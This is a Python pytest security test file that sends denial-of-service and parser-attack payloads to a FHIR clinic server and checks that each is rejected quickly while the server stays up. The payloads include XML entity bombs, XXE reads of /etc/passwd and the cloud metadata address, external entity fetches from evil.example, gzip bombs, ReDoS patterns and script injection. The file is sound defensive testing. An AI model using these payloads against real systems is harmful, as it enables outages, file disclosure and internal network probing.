"""Small requests that are meant to cost much: bombs in JSON, XML and gzip, deep nesting, expressions that never end.

Each must be answered within seconds with a 4xx and an OperationOutcome, and the server must go on answering.

Source: OWASP XML External Entity Prevention, Denial of Service; OWASP API Security 2023 API4; CWE-776, CWE-611, CWE-1333
"""

from __future__ import annotations

import asyncio
import gzip
import json
import time
from collections.abc import AsyncIterator
from typing import Any, NamedTuple
from urllib.parse import quote

import pytest
import pytest_asyncio

from tests.security.attacks.clinic import Target, attacked

pytestmark = pytest.mark.asyncio(loop_scope="module")

JSON, XML = "application/fhir+json", "application/fhir+xml"
LONGEST_S = 15.0
NS = 'xmlns="http://hl7.org/fhir"'


class Bomb(NamedTuple):
    """What was tried, and what must be answered."""

    tried: str
    method: str
    url: str
    answer: tuple[int, ...]
    body: bytes | None = None
    mime: str = JSON
    headers: dict[str, str] | None = None


def _laughs(levels: int) -> bytes:
    """Return an XML document whose entities grow tenfold with each level."""
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels)]
    return f'<!DOCTYPE x [{"".join(lines)}]><Patient {NS}><id value="&a{levels - 1};"/></Patient>'.encode()


def _entity(what: str) -> bytes:
    return (
        f'<!DOCTYPE x [<!ENTITY e {what}>]><Patient {NS}><id value="a"/><text>&e;</text></Patient>'.encode()
    )


def _xml(inner: str) -> bytes:
    return f"<Patient {NS}>{inner}</Patient>".encode()


def _patient(**elements: Any) -> bytes:
    return json.dumps({"resourceType": "Patient", **elements}).encode()


def _nested(depth: int) -> bytes:
    """Return a Patient whose extensions hold each other."""
    head, tail = b'{"url":"http://x.example","extension":[', b"]}"
    return b'{"resourceType":"Patient","extension":[' + head * depth + tail * depth + b"]}"


def _query(text: str) -> bytes:
    return json.dumps({"query": text}).encode()


def _fragments(count: int) -> str:
    inner = "".join(f"fragment f{n} on Patient {{ ...f{n + 1} ...f{n + 1} }} " for n in range(count))
    return "{PatientList{...f0}} " + inner + f"fragment f{count} on Patient {{id}}"


def _bundle(count: int) -> bytes:
    entry = {"request": {"method": "GET", "url": "Patient?_count=1"}}
    return json.dumps({"resourceType": "Bundle", "type": "batch", "entry": [entry] * count}).encode()


EVIL = "(a+)+$"
LONG = "a" * 40 + "!"
FHIRPATH = "/$fhirpath?expression="

BOMBS = [
    Bomb("JSON nested without end", "POST", "Patient", (400, 413, 422), b"[" * 1_000_000),
    Bomb("JSON objects nested without end", "POST", "Patient", (400, 413, 422), b'{"a":' * 200_000),
    Bomb("extensions in extensions", "POST", "Patient", (400, 413, 422), _nested(20_000)),
    Bomb("the same name many times", "POST", "Patient", (400, 422), b'{"resourceType":"Patient",' + b'"id":"x",' * 100_000 + b'"id":"y"}'),
    Bomb("a number of a million digits", "POST", "Observation", (400, 413, 422), b'{"resourceType":"Observation","status":"final","code":{"text":"x"},"valueQuantity":{"value":' + b"9" * 1_000_000 + b"}}"),
    Bomb("a number with a huge exponent", "POST", "Observation", (400, 422), b'{"resourceType":"Observation","status":"final","code":{"text":"x"},"subject":{"reference":"Patient/ada"},"valueQuantity":{"value":1e999999999}}'),
    Bomb("not a number", "POST", "Observation", (400, 422), b'{"resourceType":"Observation","valueQuantity":{"value":NaN}}'),
    Bomb("half a surrogate", "POST", "Patient", (400, 422), b'{"resourceType":"Patient","name":[{"family":"\\ud800"}]}'),
    Bomb("a zero byte in a text", "POST", "Patient", (400, 422), b'{"resourceType":"Patient","name":[{"family":"a\\u0000b"}]}'),
    Bomb("a zero byte between texts", "POST", "Patient", (400, 422), b'{"resourceType":"Patient"\0}'),
    Bomb("another encoding", "POST", "Patient", (400, 415, 422), '{"resourceType":"Patient"}'.encode("utf-16")),
    Bomb("a prototype", "POST", "Patient", (400, 422), _patient(__proto__={"admin": True})),
    Bomb("a date that repeats itself", "POST", "Patient", (400, 422), _patient(birthDate="1" * 100_000)),
    Bomb("an id of a megabyte", "PUT", "Patient/x", (400, 404, 422), _patient(id="x" * 1_000_000)),
    Bomb("a URI of blanks", "POST", "Patient", (400, 422), _patient(implicitRules=" " * 100_000 + "x")),
    Bomb("base64 that is hard to match", "POST", "Patient", (400, 422), _patient(photo=[{"data": "AAAA" * 50_000 + "!"}])),
    Bomb("a billion laughs", "POST", "Patient", (400, 422), _laughs(10), XML),
    Bomb("quadratic laughs", "POST", "Patient", (400, 422), (f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><Patient {NS}><id value="{"&a;" * 10_000}"/></Patient>').encode(), XML),
    Bomb("a file of ours", "POST", "Patient", (400, 422), _entity('SYSTEM "file:///etc/passwd"'), XML),
    Bomb("a web server inside", "POST", "Patient", (400, 422), _entity('SYSTEM "http://169.254.169.254/"'), XML),
    Bomb("a type from elsewhere", "POST", "Patient", (400, 422), f'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><Patient {NS}/>'.encode(), XML),
    Bomb("parameter entities", "POST", "Patient", (400, 422), f'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]><Patient {NS}/>'.encode(), XML),
    Bomb("XInclude", "POST", "Patient", (400, 422), _xml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'), XML),
    Bomb("a stylesheet", "POST", "Patient", (400, 403, 422), b'<?xml-stylesheet href="http://evil.example/x.xsl"?>' + _xml('<foo value="x"/>'), XML),
    Bomb("XML nested without end", "POST", "Patient", (400, 413, 422), f"<Patient {NS}>".encode() + b"<extension>" * 200_000, XML),
    Bomb("a hundred thousand attributes", "POST", "Patient", (400, 422), _xml("<id " + " ".join(f'a{n}="x"' for n in range(50_000)) + "/>"), XML),
    Bomb("script in a narrative", "POST", "Patient", (400, 422), _patient(text={"status": "generated", "div": '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div>'})),
    Bomb("entities in a narrative", "POST", "Patient", (400, 422), _patient(text={"status": "generated", "div": _laughs(10).decode()})),
    Bomb("gzip of half a gigabyte", "POST", "Patient", (400, 413), gzip.compress(b" " * 500_000_000, 1), JSON, {"Content-Encoding": "gzip"}),
    Bomb("gzip in gzip", "POST", "Patient", (400, 413, 415), gzip.compress(gzip.compress(b"{}")), JSON, {"Content-Encoding": "gzip, gzip"}),
    Bomb("gzip that is cut", "POST", "Patient", (400,), gzip.compress(b"{}" * 1000)[:-9], JSON, {"Content-Encoding": "gzip"}),
    Bomb("a packing that nobody knows", "POST", "Patient", (415,), b"x", JSON, {"Content-Encoding": "zstd"}),
    Bomb("an address of a megabyte", "GET", "Patient?family=" + "x" * 60_000, (200, 400, 414)),
    Bomb("ten thousand parameters", "GET", "Patient?" + "&".join(["family=a"] * 5_000), (400, 414)),
    Bomb("ten thousand alternatives", "GET", "Patient?family=" + ",".join(["a"] * 5_000), (200, 400, 414)),
    Bomb("a page without end", "GET", "Patient?_count=999999999999999999999", (200, 400)),
    Bomb("a page of less than nothing", "GET", "Patient?_count=-1", (400,)),
    Bomb("a chain of chains", "GET", "Observation?subject:Patient" + ".general-practitioner:Practitioner" * 200 + ".family=x", (400, 414)),
    Bomb("reverse chains of reverse chains", "GET", "Patient?" + "_has:Observation:subject:" * 200 + "code=x", (400, 414)),
    Bomb("filters in filters", "GET", "Patient?_filter=" + "(" * 3_000 + "family eq a" + ")" * 3_000, (400, 414)),
    Bomb("filters that are negated", "GET", "Patient?_filter=" + "not (" * 1_000 + "family eq a" + ")" * 1_000, (400, 414)),
    Bomb("includes of includes", "GET", "Patient?" + "&".join(["_include:iterate=*"] * 200), (200, 400, 414)),
    Bomb("a sort by hundreds", "GET", "Patient?_sort=" + ",".join(["family"] * 500), (400,)),
    Bomb("wildcards", "GET", "Patient?family:contains=" + quote("%_" * 2_000), (200, 400)),
    Bomb("an expression that never ends", "GET", "Patient/ada" + FHIRPATH + quote(f"'{LONG}'.matches('{EVIL}')"), (200, 400, 403, 404, 422)),
    Bomb("an expression that repeats", "GET", "Patient/ada" + FHIRPATH + quote("repeat($this)"), (200, 400, 403, 404, 422)),
    Bomb("an expression that grows", "GET", "Patient/ada" + FHIRPATH + quote("repeatAll($this)"), (200, 400, 403, 404, 422)),
    Bomb("an expression in brackets", "GET", "Patient/ada" + FHIRPATH + quote("(" * 2_000 + "1" + ")" * 2_000), (400, 403, 404, 414)),
    Bomb("a power of powers", "GET", "Patient/ada" + FHIRPATH + quote("10.power(10.power(10))"), (200, 400, 403, 404, 422)),
    Bomb("GraphQL in depth", "POST", "$graphql", (400, 403), _query("{PatientList" + "{link{other{resource" * 500 + "{id}" + "}}}" * 500 + "}"), "application/json"),
    Bomb("GraphQL by other names", "POST", "$graphql", (200, 400, 403), _query("{" + " ".join(f"a{n}:PatientList{{id}}" for n in range(5_000)) + "}"), "application/json"),
    Bomb("GraphQL fragments in a ring", "POST", "$graphql", (400, 403), _query("{PatientList{...a}} fragment a on Patient {...b} fragment b on Patient {...a}"), "application/json"),
    Bomb("GraphQL fragments that double", "POST", "$graphql", (200, 400, 403), _query(_fragments(40)), "application/json"),
    Bomb("GraphQL directives", "POST", "$graphql", (200, 400, 403), _query("{PatientList{id " + "@include(if:true)" * 5_000 + "}}"), "application/json"),
    Bomb("a batch without end", "POST", "", (400, 413, 422), _bundle(20_000)),
    Bomb("a patch without end", "PATCH", "Patient/ada", (400, 413, 422), json.dumps([{"op": "copy", "from": "/name", "path": "/name/-"}] * 20_000).encode(), "application/json-patch+json"),
    Bomb("a patch that doubles", "PATCH", "Patient/ada", (400, 413, 422), json.dumps([{"op": "copy", "from": "", "path": "/contained"}] * 60).encode(), "application/json-patch+json"),
    Bomb("a patch at a huge place", "PATCH", "Patient/ada", (400, 422), json.dumps([{"op": "add", "path": "/name/99999999999999999999", "value": {}}]).encode(), "application/json-patch+json"),
    Bomb("an accept header that is hard to read", "GET", "Patient/ada", (200, 400, 406, 431), None, JSON, {"Accept": ("a/b;" + "q=1;" * 2_000 + ",") * 3}),
    Bomb("many wishes", "GET", "Patient/ada", (200, 400), None, JSON, {"Prefer": "a=b;" * 3_000}),
    Bomb("many versions", "PUT", "Patient/ada", (400, 404, 409, 412, 422), _patient(id="ada"), JSON, {"If-Match": 'W/"1",' * 2_000}),
    Bomb("a date of headers that is none", "GET", "Patient/ada", (200, 400), None, JSON, {"If-Modified-Since": "x" * 5_000}),
]  # fmt: skip


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def target(database_url: str) -> AsyncIterator[Target]:
    """Yield the clinic with Ada's app, which may do everything that a patient may."""
    async with attacked(database_url, "patient/*.cruds", "user/*.cruds") as one:
        yield one


@pytest.mark.parametrize("bomb", BOMBS, ids=lambda one: one.tried)
async def test_a_bomb_does_not_go_off(target: Target, bomb: Bomb) -> None:
    headers = {**({"Content-Type": bomb.mime} if bomb.body is not None else {}), **(bomb.headers or {})}
    start = time.perf_counter()
    async with asyncio.timeout(LONGEST_S):
        answer = await target.app.request(bomb.method, bomb.url, content=bomb.body, headers=headers)
    assert time.perf_counter() - start < LONGEST_S
    assert answer.status_code in bomb.answer, answer.text[:500]
    assert len(answer.content) < 2_000_000
    assert "root:" not in answer.text
    if answer.status_code >= 400:
        assert answer.json().get("resourceType", "OperationOutcome") == "OperationOutcome"
    assert (await target.app.get("Patient/ada")).status_code == 200
